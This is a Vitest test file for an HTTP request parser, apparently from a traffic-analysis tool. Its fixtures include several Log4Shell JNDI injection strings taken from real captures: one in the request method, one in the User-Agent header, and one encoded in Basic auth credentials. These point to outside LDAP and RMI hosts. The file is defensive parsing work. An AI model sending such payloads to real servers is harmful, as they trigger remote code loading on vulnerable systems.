import { describe, expect, test } from 'vitest';
import { basicCredentials, findHeadEnd, parseRequestHead, REQUEST_START, requestStart } from './parse-http-request.js';

const bytes = (text: string) => Buffer.from(text, 'latin1');
const start = (text: string) => {
  const b = bytes(text);
  return requestStart(b, 0, b.length);
};

describe('requestStart', () => {
  test.each([
    ['GET / HTTP/1.1\r\nHost: a\r\n\r\n', REQUEST_START.LINE],
    ['POST /login HTTP/1.0\n', REQUEST_START.LINE],
    // The Fox-IT http-method captures send the lookup as the method.
    ['${${::-j}ndi:ldap://34.91.73.37:1389/a} /test HTTP/1.1\r\n', REQUEST_START.LINE],
    ['CONNECT www.example.com:443 HTTP/1.1\r\n', REQUEST_START.LINE],
    // The line goes on in the next segment.
    ['GET /very/long/path?q=', REQUEST_START.MORE],
    ['GET ', REQUEST_START.MORE],
    // Responses, other protocols and binary data.
    ['HTTP/1.1 200 OK\r\n', REQUEST_START.NO],
    ['SSH-2.0-OpenSSH_8.9\r\n', REQUEST_START.NO],
    ['EHLO mail.example.com\r\n', REQUEST_START.NO],
    ['GET / HTTP/2.0\r\n', REQUEST_START.NO],
    ['\x16\x03\x01\x02\x00\x01\x00', REQUEST_START.NO],
    [' GET / HTTP/1.1\r\n', REQUEST_START.NO],
    ['GET\r\n', REQUEST_START.NO],
  ])('%j', (text, expected) => {
    expect(start(text)).toBe(expected);
  });

  test('looks at the given range only', () => {
    const b = bytes('\x00\x01GET / HTTP/1.1\r\n');
    expect(requestStart(b, 2, b.length)).toBe(REQUEST_START.LINE);
    expect(requestStart(b, 0, b.length)).toBe(REQUEST_START.NO);
  });
});

describe('findHeadEnd', () => {
  test.each([
    ['GET / HTTP/1.1\r\nHost: a\r\n\r\nbody', 27],
    ['GET / HTTP/1.1\nHost: a\n\nbody', 24],
    ['GET / HTTP/1.1\r\nHost: a\r\n', -1],
  ])('%j -> %d', (text, expected) => {
    const b = bytes(text);
    expect(findHeadEnd(b, 0, b.length)).toBe(expected);
  });
});

describe('parseRequestHead', () => {
  test('the nDPI Log4Shell request head', () => {
    const head = parseRequestHead(
      'POST /log4shell/login HTTP/1.1\r\nHost: 192.168.13.31:8080\r\nUser-Agent: jndi:ldap://172.16.238.11:1389/a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 69\r\n\r\n',
    );
    expect(head).toEqual({
      method: 'POST',
      uri: '/log4shell/login',
      version: 'HTTP/1.1',
      host: '192.168.13.31:8080',
      userAgent: 'jndi:ldap://172.16.238.11:1389/a',
      headers: 'Content-Type: application/x-www-form-urlencoded\nContent-Length: 69',
      contentLength: 69,
    });
  });

  test('a URI with spaces, folded header, missing host', () => {
    expect(parseRequestHead('GET /a b HTTP/1.0\r\nX-A: one\r\n  two\r\nbad line\r\n')).toEqual({
      method: 'GET',
      uri: '/a b',
      version: 'HTTP/1.0',
      host: '',
      userAgent: '',
      headers: 'X-A: one two',
      contentLength: -1,
    });
  });

  test.each(['GET /', 'GET / HTTP/2', 'HTTP/1.1 200 OK', ''])('%j is no request', (text) => {
    expect(parseRequestHead(text)).toBeUndefined();
  });

  test('bounds long fields', () => {
    const head = parseRequestHead(`GET /${'a'.repeat(10_000)} HTTP/1.1\r\nX: ${'b'.repeat(5000)}\r\n\r\n`)!;
    expect(head.uri).toHaveLength(8192);
    expect(head.uri.endsWith('...')).toBe(true);
    expect(head.headers).toHaveLength(4096);
  });
});

test('basicCredentials decodes Basic authorization (Fox-IT rmi-basic-auth-ev1)', () => {
  // base64 of "attacker:${${::-j}ndi:rmi://34.91.73.37:1099/gp9pc7}"
  const headers = 'Accept: */*\nAuthorization: Basic YXR0YWNrZXI6JHskezo6LWp9bmRpOnJtaTovLzM0LjkxLjczLjM3OjEwOTkvZ3A5cGM3fQ==\nX: y';
  expect(basicCredentials(headers)).toEqual(['attacker:${${::-j}ndi:rmi://34.91.73.37:1099/gp9pc7}']);
  expect(basicCredentials('authorization: bearer abcdef\nAuthorization: Digest x')).toEqual([]);
});
